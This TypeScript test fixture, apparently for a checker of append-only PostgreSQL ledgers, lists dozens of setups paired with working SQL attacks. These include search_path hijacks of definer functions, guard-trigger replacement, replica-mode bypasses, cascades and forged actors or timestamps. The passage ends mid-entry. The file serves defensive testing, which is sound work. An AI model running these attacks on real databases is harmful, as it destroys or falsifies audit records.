const PINNED = 'SET search_path = pg_catalog, pg_temp';
const GONE = `SELECT NOT EXISTS (SELECT FROM ledger.events WHERE event_type = 'claimed_transaction')`;
export const REPLACED = `SELECT prosrc LIKE '%RETURN OLD%' FROM pg_proc WHERE oid = 'ledger.refuse_change'::regproc`;
const UNGUARDED = `SELECT count(*) < 2 FROM pg_trigger WHERE tgrelid = 'ledger.events'::regclass AND NOT tgisinternal`;
const FAR_OFF = `SELECT EXISTS (SELECT FROM ledger.events
  WHERE abs(extract(epoch FROM occurred_at) - extract(epoch FROM clock_timestamp())) > 500000)`;
const lost = (column: string): string =>
  `SELECT NOT EXISTS (SELECT FROM pg_attribute WHERE attrelid = 'ledger.events'::regclass AND attname = '${column}')`;

const owned = (routine: string): string => `ALTER FUNCTION ${routine} OWNER TO ledger_owner;`;
/** A table whose writers delete events. */
const TRAPPED = `
    CREATE TABLE ledger.jobs (n int); ALTER TABLE ledger.jobs OWNER TO ledger_owner;
    CREATE FUNCTION ledger.on_job() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN DELETE FROM ledger.events; RETURN NEW; END $$;
    ${owned('ledger.on_job()')} REVOKE EXECUTE ON FUNCTION ledger.on_job() FROM PUBLIC;
    CREATE TRIGGER j BEFORE INSERT ON ledger.jobs FOR EACH ROW EXECUTE FUNCTION ledger.on_job(); GRANT USAGE ON SCHEMA public TO ledger_owner;`;
/** A table that a definer function writes, and what is granted on it. */
const inbox = (granted: string): string => `
    CREATE TABLE public.inbox (n int); ALTER TABLE public.inbox OWNER TO ledger_owner; GRANT USAGE ON SCHEMA public TO ledger_owner; GRANT ${granted} ON public.inbox TO app; CREATE SCHEMA own AUTHORIZATION app;
    CREATE FUNCTION public.post() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN INSERT INTO public.inbox VALUES (1); END $$; ${owned('public.post()')}`;
/** A trigger on that table, whose code the definer then runs. */
const HIDE_IN_INBOX = `GRANT USAGE ON SCHEMA own TO PUBLIC; CREATE FUNCTION own.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM ledger.events; RETURN NEW; END $$;
      CREATE TRIGGER t BEFORE INSERT ON public.inbox FOR EACH ROW EXECUTE FUNCTION own.f(); SELECT public.post()`;
/** A body that replaces the guard when whoever runs it may. */
export const harm = (
  returns: string,
  value: string,
): string => `RETURNS ${returns} LANGUAGE plpgsql AS $$ BEGIN
  EXECUTE 'CREATE OR REPLACE FUNCTION ledger.refuse_change() RETURNS trigger LANGUAGE plpgsql AS ''BEGIN RETURN OLD; END''';
  RETURN ${value}; EXCEPTION WHEN insufficient_privilege THEN RETURN ${value}; END $$`;

/** A database that says it is append-only, what a role does to it, and how one sees that it was done. */
export interface FarWay {
  readonly title: string;
  readonly script: string;
  readonly attack: string;
  readonly proof: string;
  readonly verdict: 'nominal' | 'unproven' | 'append-only';
  /** Default: app. */
  readonly role?: string;
  /** `none`: there are no guards; `origin`: they are not ENABLE ALWAYS. */
  readonly guards?: 'none' | 'origin';
  readonly since?: number;
  readonly until?: number;
  /** `--prove` does it, too. */
  readonly isProved?: true;
  /** What the writer does; default: an INSERT. */
  readonly append?: string;
}

export const FAR_WAYS: readonly FarWay[] = [
  {
    title: 'guard function in a schema of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; CREATE FUNCTION lib.refuse() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN RAISE EXCEPTION 'no'; END $$; ${owned('lib.refuse()')}
    DROP TRIGGER events_guard_rows ON ledger.events; DROP TRIGGER events_guard_statement ON ledger.events;
    CREATE TRIGGER r BEFORE UPDATE OR DELETE ON ledger.events FOR EACH ROW EXECUTE FUNCTION lib.refuse();
    CREATE TRIGGER t BEFORE TRUNCATE ON ledger.events FOR EACH STATEMENT EXECUTE FUNCTION lib.refuse();
    ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER r; ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER t;
    ALTER SCHEMA lib OWNER TO app;`,
    attack: 'DROP FUNCTION lib.refuse() CASCADE',
    proof: UNGUARDED,
  },
  {
    title: 'sequence in a schema of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; CREATE SEQUENCE lib.numbers START 100; ALTER SEQUENCE lib.numbers OWNER TO ledger_owner; GRANT USAGE ON SEQUENCE lib.numbers TO writer; GRANT USAGE ON SCHEMA lib TO writer;
    ALTER TABLE ledger.events ALTER COLUMN id DROP IDENTITY; ALTER TABLE ledger.events ALTER COLUMN id SET DEFAULT nextval('lib.numbers');
    ALTER SCHEMA lib OWNER TO app;`,
    attack: 'DROP SEQUENCE lib.numbers CASCADE',
    proof: `SELECT NOT EXISTS (SELECT FROM pg_attrdef WHERE adrelid = 'ledger.events'::regclass AND adnum = 1)`,
  },
  {
    title: 'array of an enum of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; CREATE TYPE lib.outcome AS ENUM ('a'); ALTER TABLE ledger.events ADD COLUMN outcome lib.outcome[] DEFAULT '{a}'; ALTER TYPE lib.outcome OWNER TO app; GRANT USAGE ON SCHEMA lib TO app;`,
    attack: 'DROP TYPE lib.outcome CASCADE',
    proof: lost('outcome'),
  },
  {
    title: 'domain over an enum of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; CREATE TYPE lib.outcome AS ENUM ('a'); CREATE DOMAIN lib.good AS lib.outcome; ALTER DOMAIN lib.good OWNER TO ledger_owner; ALTER TABLE ledger.events ADD COLUMN outcome lib.good DEFAULT 'a'; ALTER TYPE lib.outcome OWNER TO app; GRANT USAGE ON SCHEMA lib TO app;`,
    attack: 'DROP TYPE lib.outcome CASCADE',
    proof: lost('outcome'),
  },
  {
    title: 'composite type with an enum attribute of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; CREATE TYPE lib.outcome AS ENUM ('a'); CREATE TYPE lib.pair AS (x lib.outcome, y text); ALTER TYPE lib.pair OWNER TO ledger_owner; ALTER TABLE ledger.events ADD COLUMN outcome lib.pair DEFAULT ROW('a','b')::lib.pair; ALTER TYPE lib.outcome OWNER TO app; GRANT USAGE ON SCHEMA lib TO app;`,
    attack: `ALTER TYPE lib.outcome RENAME VALUE 'a' TO 'b'`,
    proof: `SELECT outcome::text LIKE '(b%' FROM ledger.events LIMIT 1`,
  },
  {
    title: 'collation of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; CREATE COLLATION lib.c FROM "C"; ALTER TABLE ledger.events ADD COLUMN note text COLLATE lib.c; ALTER COLLATION lib.c OWNER TO app; GRANT USAGE ON SCHEMA lib TO app;`,
    attack: 'DROP COLLATION lib.c CASCADE',
    proof: lost('note'),
  },
  {
    title: 'domain with a CHECK function of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; GRANT USAGE ON SCHEMA lib TO PUBLIC; GRANT CREATE ON SCHEMA lib TO app; CREATE FUNCTION lib.ok(text) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT true';
    CREATE DOMAIN lib.kind AS text CHECK (lib.ok(VALUE)); ALTER DOMAIN lib.kind OWNER TO ledger_owner; ALTER FUNCTION lib.ok(text) OWNER TO app; ALTER TABLE ledger.events ADD COLUMN kind lib.kind DEFAULT 'x';
    CREATE FUNCTION public.append() RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} AS $$ INSERT INTO ledger.events (event_type, payload) VALUES ('x', '{}') $$; ${owned('public.append()')}`,
    attack: `CREATE OR REPLACE FUNCTION lib.ok(text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN false; END $$`,
    proof: `SELECT NOT lib.ok('x')`,
  },
  {
    title: 'index on another table of the owner with a function of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; GRANT USAGE ON SCHEMA lib TO PUBLIC; GRANT CREATE ON SCHEMA lib TO app; CREATE FUNCTION lib.norm(text) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT $1';
    CREATE TABLE ledger.notes (note text); INSERT INTO ledger.notes VALUES ('x'); ALTER TABLE ledger.notes OWNER TO ledger_owner; CREATE INDEX ON ledger.notes (lib.norm(note)); ALTER FUNCTION lib.norm(text) OWNER TO app;`,
    attack: `CREATE FUNCTION lib.harm() ${harm('int', '1')}; CREATE OR REPLACE FUNCTION lib.norm(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM lib.harm(); RETURN $1; END $$; RESET SESSION AUTHORIZATION; ANALYZE ledger.notes`,
    proof: REPLACED,
  },
  {
    title: 'materialized view of the owner with a function of a login role',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA lib; GRANT USAGE ON SCHEMA lib TO PUBLIC; GRANT CREATE ON SCHEMA lib TO app; CREATE FUNCTION lib.norm(text) RETURNS text LANGUAGE sql AS 'SELECT $1';
    CREATE MATERIALIZED VIEW ledger.kinds AS SELECT lib.norm(event_type) FROM ledger.events; ALTER MATERIALIZED VIEW ledger.kinds OWNER TO ledger_owner; ALTER FUNCTION lib.norm(text) OWNER TO app;`,
    attack: `CREATE FUNCTION lib.harm() ${harm('int', '1')}; CREATE OR REPLACE FUNCTION lib.norm(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM lib.harm(); RETURN $1; END $$; RESET SESSION AUTHORIZATION; REFRESH MATERIALIZED VIEW ledger.kinds`,
    proof: REPLACED,
  },
  {
    title: 'append definer function, table trigger without search_path',
    verdict: 'nominal',
    script: `
    CREATE FUNCTION ledger.note() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM length(NEW.event_type); RETURN NEW; END $$; ${owned('ledger.note()')}
    CREATE TRIGGER note BEFORE INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.note();
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ INSERT INTO ledger.events (event_type, payload) VALUES (kind, '{}') $$; ${owned('public.append(text)')}
    CREATE SCHEMA app AUTHORIZATION app;`,
    attack: `CREATE FUNCTION app.length(text) ${harm('int', '1')}; GRANT USAGE ON SCHEMA app TO PUBLIC; SET search_path = app, pg_catalog; SELECT public.append('y')`,
    proof: REPLACED,
  },
  {
    title: 'append definer that pins; table trigger without (inherits the pinned)',
    verdict: 'append-only',
    script: `
    CREATE FUNCTION ledger.note() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM length(NEW.event_type); RETURN NEW; END $$; ${owned('ledger.note()')}
    CREATE TRIGGER note BEFORE INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.note();
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} AS $$ INSERT INTO ledger.events (event_type, payload) VALUES (kind, '{}') $$; ${owned('public.append(text)')}
    CREATE SCHEMA app AUTHORIZATION app;`,
    attack: `CREATE FUNCTION app.length(text) ${harm('int', '1')}; GRANT USAGE ON SCHEMA app TO PUBLIC; SET search_path = app, pg_catalog; SELECT public.append('y')`,
    proof: REPLACED,
  },
  {
    title: 'append definer, table trigger runs dynamic SQL of the payload',
    verdict: 'unproven',
    script: `
    CREATE FUNCTION ledger.note() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN EXECUTE NEW.payload ->> 'sql'; RETURN NEW; END $$; ${owned('ledger.note()')}
    CREATE TRIGGER note AFTER INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.note();
    CREATE FUNCTION public.append(kind text, p jsonb) RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} AS $$ INSERT INTO ledger.events (event_type, payload) VALUES (kind, p) $$; ${owned('public.append(text, jsonb)')}`,

    attack: `SELECT public.append('y', '{"sql": "SET app.x = 1; CREATE OR REPLACE FUNCTION ledger.refuse_change() RETURNS trigger LANGUAGE plpgsql AS ''BEGIN RETURN OLD; END''"}')`,
    proof: REPLACED,
  },
  {
    title: 'append definer, table trigger deletes old events',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE FUNCTION ledger.trim() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN DELETE FROM ledger.events WHERE id < NEW.id; RETURN NULL; END $$; ${owned('ledger.trim()')}
    CREATE TRIGGER trim AFTER INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.trim();
    REVOKE INSERT (event_type, payload) ON ledger.events FROM writer;
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} AS $$ INSERT INTO ledger.events (event_type, payload) VALUES (kind, '{}') $$; ${owned('public.append(text)')}`,
    append: `SELECT public.append('x')`,
    attack: `SELECT public.append('y')`,
    proof: GONE,
  },
  {
    title: 'own rule on INSERT trims',
    verdict: 'nominal',
    guards: 'none',
    role: 'writer',
    script: `
    CREATE RULE trim AS ON INSERT TO ledger.events DO ALSO DELETE FROM ledger.events WHERE event_type = 'claimed_transaction';`,
    attack: `INSERT INTO ledger.events (event_type, payload) VALUES ('y', '{}')`,
    proof: GONE,
  },
  {
    title: 'definer without search_path, operator',
    verdict: 'nominal',
    script: `
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN IF kind = 'x' THEN RETURN; END IF; END $$; ${owned('public.append(text)')}
    CREATE SCHEMA app AUTHORIZATION app;`,
    attack: `CREATE FUNCTION app.eq(text, text) ${harm('boolean', 'true')}; CREATE OPERATOR app.= (LEFTARG = text, RIGHTARG = text, FUNCTION = app.eq); GRANT USAGE ON SCHEMA app TO PUBLIC; SET search_path = app, pg_catalog; SELECT public.append('y')`,
    proof: REPLACED,
  },
  {
    title: 'definer with search_path that names a writable schema before pg_catalog, operator',
    verdict: 'nominal',
    script: `
    CREATE SCHEMA api; GRANT CREATE ON SCHEMA api TO app; GRANT USAGE ON SCHEMA api TO PUBLIC;
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = api, pg_catalog, pg_temp AS $$ BEGIN IF kind = 'x' THEN RETURN; END IF; END $$; ${owned('public.append(text)')}`,
    attack: `GRANT USAGE ON SCHEMA api TO PUBLIC; CREATE FUNCTION api.eq(text, text) ${harm('boolean', 'true')}; CREATE OPERATOR api.= (LEFTARG = text, RIGHTARG = text, FUNCTION = api.eq); SELECT public.append('y')`,
    proof: REPLACED,
  },
  {
    title: 'definer with search_path = api (pg_catalog first), operator of better fit',
    verdict: 'unproven',
    script: `
    CREATE SCHEMA api; GRANT CREATE ON SCHEMA api TO app; GRANT USAGE ON SCHEMA api TO PUBLIC;
    CREATE FUNCTION public.append(kind varchar) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = api, pg_temp AS $$ BEGIN IF kind = 'x' THEN RETURN; END IF; END $$; ${owned('public.append(varchar)')}`,
    attack: `GRANT USAGE ON SCHEMA api TO PUBLIC; CREATE FUNCTION api.eq(varchar, varchar) ${harm('boolean', 'true')}; CREATE OPERATOR api.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = api.eq); SELECT public.append('y')`,
    proof: REPLACED,
  },
  {
    title: 'definer without search_path, type by its bare name',
    verdict: 'nominal',
    script: `
    CREATE DOMAIN public.amount AS int; GRANT USAGE ON SCHEMA public TO PUBLIC;
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ DECLARE n amount := 1; BEGIN END $$; ${owned('public.append(text)')}
    CREATE SCHEMA app AUTHORIZATION app;`,
    attack: `CREATE FUNCTION app.bad(int) ${harm('boolean', 'true')}; GRANT USAGE ON SCHEMA app TO PUBLIC; CREATE DOMAIN app.amount AS int CHECK (app.bad(VALUE)); SET search_path = app, pg_catalog; SELECT public.append('y')`,
    proof: REPLACED,
  },
  {
    title: 'definer that pins without pg_temp, a declared text',
    verdict: 'nominal',
    script: `
    CREATE FUNCTION public.append(kind text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = ledger AS $$ DECLARE n text := 'a'; BEGIN END $$; ${owned('public.append(text)')}`,
    attack: `CREATE FUNCTION pg_temp.bad(pg_catalog.text) ${harm('boolean', 'true')}; CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.bad(VALUE)); SELECT public.append('y'); DISCARD TEMP`,
    proof: REPLACED,
  },
  {
    title: 'definer with a polymorphic argument, cast of the caller',
    verdict: 'unproven',
    script: `
    CREATE FUNCTION public.append(what anyelement) RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN INSERT INTO ledger.events (event_type, payload) VALUES (what::text, '{}'); END $$; ${owned('public.append(anyelement)')}
    CREATE SCHEMA app AUTHORIZATION app;`,
    attack: `CREATE TYPE app.t AS (a int); CREATE FUNCTION app.bad(app.t) ${harm('text', "'x'")}; GRANT USAGE ON SCHEMA app TO PUBLIC; CREATE CAST (app.t AS text) WITH FUNCTION app.bad(app.t); SELECT public.append(ROW(1)::app.t)`,
    proof: REPLACED,
  },
  {
    title: 'guard that decides, with a schema before pg_catalog where a login may create',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE SCHEMA api; GRANT CREATE ON SCHEMA api TO app; GRANT USAGE ON SCHEMA api TO PUBLIC;
    CREATE FUNCTION ledger.guard() RETURNS trigger LANGUAGE plpgsql SET search_path = api, pg_catalog AS $$ BEGIN IF TG_OP = 'DELETE' THEN RAISE EXCEPTION 'no'; END IF; RETURN OLD; END $$; ${owned('ledger.guard()')}
    CREATE TRIGGER guard BEFORE DELETE ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.guard(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER guard; GRANT DELETE ON ledger.events TO app; GRANT USAGE ON SCHEMA ledger TO app;`,
    attack: `CREATE FUNCTION api.never(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT false'; CREATE OPERATOR api.= (LEFTARG = text, RIGHTARG = text, FUNCTION = api.never); DELETE FROM ledger.events`,
    proof: GONE,
  },
  {
    title: 'definer of the owner in replica mode by its own setting',
    verdict: 'nominal',
    guards: 'origin',
    script: `
    CREATE FUNCTION public.purge() RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} SET session_replication_role = replica AS $$ DELETE FROM ledger.events $$;`,
    attack: 'SELECT public.purge()',
    proof: GONE,
  },
  {
    title: 'definer of a superuser sets replica mode in its body',
    verdict: 'nominal',
    guards: 'origin',
    script: `
    CREATE FUNCTION public.purge() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN SET LOCAL session_replication_role = replica; DELETE FROM ledger.events; END $$;`,
    attack: 'SELECT public.purge()',
    proof: GONE,
  },
  {
    title: 'definer of a superuser sets replica mode by set_config',
    verdict: 'nominal',
    guards: 'origin',
    script: `
    CREATE FUNCTION public.purge() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN PERFORM set_config('session_replication_role', 'replica', true); DELETE FROM ledger.events; END $$;`,
    attack: 'SELECT public.purge()',
    proof: GONE,
  },
  {
    title: 'definer of a superuser only sets replica mode for the session',
    verdict: 'nominal',
    guards: 'origin',
    script: `
    CREATE FUNCTION public.quiet() RETURNS void LANGUAGE plpgsql SECURITY DEFINER ${PINNED} AS $$ BEGIN PERFORM set_config('session_replication_role', 'replica', false); END $$; GRANT DELETE ON ledger.events TO app;`,
    attack: 'SELECT public.quiet(); DELETE FROM ledger.events',
    proof: GONE,
  },
  {
    title: 'definer writes a table whose rule deletes',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE ROLE batch NOLOGIN; CREATE TABLE public.inbox (id int); ALTER TABLE public.inbox OWNER TO ledger_owner; GRANT INSERT ON public.inbox TO batch; GRANT USAGE ON SCHEMA public TO batch;
    CREATE RULE f AS ON INSERT TO public.inbox DO ALSO DELETE FROM ledger.events;
    CREATE FUNCTION public.f() RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} AS $$ INSERT INTO public.inbox VALUES (1) $$; ALTER FUNCTION public.f() OWNER TO batch;`,
    attack: 'SELECT public.f()',
    proof: GONE,
  },
  {
    title: 'definer deletes a parent whose foreign key cascades',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE ROLE batch NOLOGIN; CREATE TABLE public.runs (id int PRIMARY KEY); INSERT INTO public.runs VALUES (1); ALTER TABLE public.runs OWNER TO ledger_owner; GRANT DELETE ON public.runs TO batch; GRANT USAGE ON SCHEMA public TO batch, ledger_owner;
    ALTER TABLE ledger.events ADD COLUMN run int DEFAULT 1 REFERENCES public.runs ON DELETE CASCADE;
    CREATE FUNCTION public.f() RETURNS void LANGUAGE sql SECURITY DEFINER ${PINNED} AS $$ DELETE FROM public.runs $$; ALTER FUNCTION public.f() OWNER TO batch;`,
    attack: 'SELECT public.f()',
    proof: GONE,
  },
  {
    title: 'foreign keys cascade twice',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE TABLE public.orgs (id int PRIMARY KEY); INSERT INTO public.orgs VALUES (1); CREATE TABLE public.runs (id int PRIMARY KEY, org int REFERENCES public.orgs ON DELETE CASCADE); INSERT INTO public.runs VALUES (1, 1);
    ALTER TABLE public.runs OWNER TO ledger_owner; ALTER TABLE public.orgs OWNER TO ledger_owner; GRANT SELECT, DELETE ON public.orgs TO app; GRANT USAGE ON SCHEMA public TO ledger_owner;
    ALTER TABLE ledger.events ADD COLUMN run int DEFAULT 1 REFERENCES public.runs ON DELETE CASCADE;`,
    attack: 'DELETE FROM public.orgs',
    proof: GONE,
  },
  {
    title: 'a cascade fires an invoker trigger as the owner of the table',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE TABLE public.orgs (id int PRIMARY KEY); INSERT INTO public.orgs VALUES (1); CREATE TABLE public.jobs (id int PRIMARY KEY, org int REFERENCES public.orgs ON DELETE CASCADE); INSERT INTO public.jobs VALUES (1, 1);
    ALTER TABLE public.jobs OWNER TO ledger_owner; ALTER TABLE public.orgs OWNER TO ledger_owner; GRANT SELECT, DELETE ON public.orgs TO app; GRANT USAGE ON SCHEMA public TO ledger_owner;
    CREATE FUNCTION ledger.gone() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN DELETE FROM ledger.events; RETURN OLD; END $$; ${owned('ledger.gone()')}
    CREATE TRIGGER gone BEFORE DELETE ON public.jobs FOR EACH ROW EXECUTE FUNCTION ledger.gone();`,
    attack: 'DELETE FROM public.orgs',
    proof: GONE,
  },
  {
    title: 'trigger overwrites the actor by a setting',
    verdict: 'nominal',
    role: 'writer',
    script: `
    CREATE FUNCTION ledger.stamp() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN NEW.recorded_by := coalesce(current_setting('app.who', true), session_user::text); RETURN NEW; END $$; ${owned('ledger.stamp()')}
    CREATE TRIGGER stamp BEFORE INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.stamp(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER stamp;`,
    attack: `SET app.who = 'ceo'; INSERT INTO ledger.events (event_type, payload) VALUES ('x', '{}')`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE recorded_by = 'ceo')`,
  },
  {
    title: 'trigger overwrites the time by the payload',
    verdict: 'nominal',
    role: 'writer',
    script: `
    CREATE FUNCTION ledger.stamp() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN IF NEW.payload ? 'at' THEN NEW.occurred_at := (NEW.payload ->> 'at')::timestamptz; END IF; RETURN NEW; END $$; ${owned('ledger.stamp()')}
    CREATE TRIGGER stamp BEFORE INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.stamp(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER stamp;`,
    attack: `INSERT INTO ledger.events (event_type, payload) VALUES ('x', '{"at": "2001-01-01"}')`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE occurred_at < '2002-01-01')`,
  },
  {
    title: 'trigger with COALESCE(NEW)',
    verdict: 'nominal',
    role: 'writer',
    script: `
    CREATE FUNCTION ledger.stamp() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN NEW.occurred_at := coalesce(NEW.occurred_at, now()); RETURN NEW; END $$; ${owned('ledger.stamp()')}
    CREATE TRIGGER stamp BEFORE INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.stamp(); GRANT INSERT (occurred_at) ON ledger.events TO writer;`,
    attack: `INSERT INTO ledger.events (occurred_at, event_type, payload) VALUES ('2001-01-01', 'x', '{}')`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE occurred_at < '2002-01-01')`,
  },
  {
    title: 'trigger WHEN the actor is missing',
    verdict: 'nominal',
    role: 'writer',
    script: `
    CREATE FUNCTION ledger.stamp() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN NEW.recorded_by := session_user; RETURN NEW; END $$; ${owned('ledger.stamp()')}
    CREATE TRIGGER stamp BEFORE INSERT ON ledger.events FOR EACH ROW WHEN (NEW.recorded_by IS NULL) EXECUTE FUNCTION ledger.stamp(); GRANT INSERT (recorded_by) ON ledger.events TO writer;`,
    attack: `INSERT INTO ledger.events (recorded_by, event_type, payload) VALUES ('ceo', 'x', '{}')`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE recorded_by = 'ceo')`,
  },
  {
    title: 'two stamping triggers, the later one takes the payload',
    verdict: 'nominal',
    role: 'writer',
    script: `
    CREATE FUNCTION ledger.stamp() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN NEW.recorded_by := session_user; RETURN NEW; END $$; ${owned('ledger.stamp()')}
    CREATE TRIGGER a_stamp BEFORE INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.stamp();
    CREATE FUNCTION ledger.more() RETURNS trigger LANGUAGE plpgsql ${PINNED} AS $$ BEGIN NEW := jsonb_populate_record(NEW, NEW.payload); RETURN NEW; END $$; ${owned('ledger.more()')}
    CREATE TRIGGER b_more BEFORE INSERT ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.more();`,
    attack: `INSERT INTO ledger.events (event_type, payload) VALUES ('x', '{"recorded_by": "ceo"}')`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE recorded_by = 'ceo')`,
  },
  {
    title: 'grant behind WHEN whole row differs',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE TRIGGER u BEFORE UPDATE ON ledger.events FOR EACH ROW WHEN (OLD.* IS DISTINCT FROM NEW.*) EXECUTE FUNCTION ledger.refuse_change(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER u; GRANT UPDATE ON ledger.events TO app;`,
    attack: `UPDATE ledger.events SET event_type = 'forged'`,
    proof: GONE,
  },
  {
    title: 'grant behind UPDATE OF every column',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE TRIGGER u BEFORE UPDATE OF id, occurred_at, tx, recorded_by, event_type, payload ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.refuse_change(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER u; GRANT UPDATE ON ledger.events TO app;`,
    attack: `UPDATE ledger.events SET event_type = 'forged'`,
    proof: GONE,
  },
  {
    title: 'column grant inside the watched columns',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE TRIGGER u BEFORE UPDATE OF event_type, payload ON ledger.events FOR EACH ROW EXECUTE FUNCTION ledger.refuse_change(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER u; GRANT UPDATE (payload) ON ledger.events TO app;`,
    attack: `UPDATE ledger.events SET payload = '{"x":1}'`,
    proof: `SELECT EXISTS (SELECT FROM ledger.events WHERE payload <> '{}')`,
  },
  {
    title: 'WHEN (pg_trigger_depth() = 0)',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE TRIGGER d BEFORE DELETE ON ledger.events FOR EACH ROW WHEN (pg_trigger_depth() = 0) EXECUTE FUNCTION ledger.refuse_change(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER d; GRANT DELETE ON ledger.events TO app; CREATE SCHEMA app AUTHORIZATION app;`,
    attack: `CREATE TABLE app.t (i int); CREATE FUNCTION app.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM ledger.events; RETURN NULL; END $$; CREATE TRIGGER f AFTER INSERT ON app.t FOR EACH ROW EXECUTE FUNCTION app.f(); INSERT INTO app.t VALUES (1)`,
    proof: GONE,
  },
  {
    title: 'WHEN (true)',
    verdict: 'append-only',
    guards: 'none',
    script: `
    CREATE TRIGGER d BEFORE DELETE ON ledger.events FOR EACH ROW WHEN (true) EXECUTE FUNCTION ledger.refuse_change(); ALTER TABLE ledger.events ENABLE ALWAYS TRIGGER d; GRANT DELETE ON ledger.events TO app;`,
    attack: `DELETE FROM ledger.events`,
    proof: GONE,
  },
  {
    title: 'rule on a table, which inserts where another rule deletes',
    verdict: 'nominal',
    guards: 'none',
    script: `
    CREATE TABLE public.a (i int); CREATE TABLE public.b (i int); ALTER TABLE public.a OWNER TO ledger_owner; ALTER TABLE public.b OWNER TO ledger_owner; GRANT USAGE ON SCHEMA public TO ledger_owner;
    CREATE RULE r1 AS ON INSERT TO public.a DO ALSO INSERT INTO public.b VALUES (1); CREATE RULE r2 AS ON INSERT TO public.b DO ALSO DELETE FROM ledger.events; GRANT INSERT ON public.a TO app;`,
    attack: 'INSERT INTO public.a VALUES (1)',
    proof: GONE,
  },
  {
    title: 'time of a zone by name, which a session may give another meaning',
    verdict: 'nominal',
    since: 18,
    script: `
